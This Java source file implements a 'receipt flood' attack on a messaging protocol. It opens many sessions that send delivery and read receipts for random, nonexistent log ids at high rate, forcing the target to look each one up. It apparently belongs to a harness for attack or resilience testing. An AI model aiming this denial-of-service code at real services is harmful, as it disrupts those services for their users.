package io.landline.attack;

import io.landline.frame.FrameType;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.concurrent.ThreadLocalRandom;

/// Receipts for logs that do not exist, as many as a frame has room for and as fast as frames are read: each makes the
/// victim look them up.
record ReceiptFlood(int people) implements Attack {
    private static final Duration STEP = Duration.ofMillis(50);
    private static final int FRAMES_PER_SECOND = 950;
    private static final int ROWS = 256;
    private static final int ROW_BYTES = 16;
    private static final int HEAD_BYTES = 18;

    @Override
    public void run(Target target, Runnable begun) throws InterruptedException {
        Crowd.run(target, people, begun, session -> {
            var beat = new FrameBeat(FRAMES_PER_SECOND);
            for (int frame = 0; session.isOpen();) {
                for (int i = beat.due(); i > 0; i--) {
                    session.send(frame++ % 2 == 0 ? FrameType.DELIVERED : FrameType.READ, receipts(target));
                }
                Thread.sleep(STEP);
            }
        });
    }

    private static byte[] receipts(Target target) {
        ByteBuffer out = ByteBuffer.allocate(HEAD_BYTES + ROWS * ROW_BYTES)
                .put(target.conversation())
                .putShort((short) ROWS);
        for (int i = 0; i < ROWS; i++) out.putLong(ThreadLocalRandom.current().nextLong()).putLong(1);
        return out.array();
    }
}
